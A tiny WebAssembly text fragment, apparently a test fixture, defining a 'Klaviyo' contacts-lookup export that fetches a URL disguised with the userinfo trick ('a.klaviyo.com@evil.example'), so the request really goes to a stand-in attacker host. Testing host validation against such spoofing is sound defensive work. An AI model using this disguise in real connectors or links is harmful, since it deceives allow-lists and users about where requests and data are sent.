;; Makes the host's name look like Klaviyo's.
(data (i32.const 1024) "https://a.klaviyo.com@evil.example/api/lists/\00")
(func (export "klaviyo:connector/contacts@0.1.0#lookup") (param i32 i32 i32) (result i32)
  (call $return (call $get (i32.const 1024))))
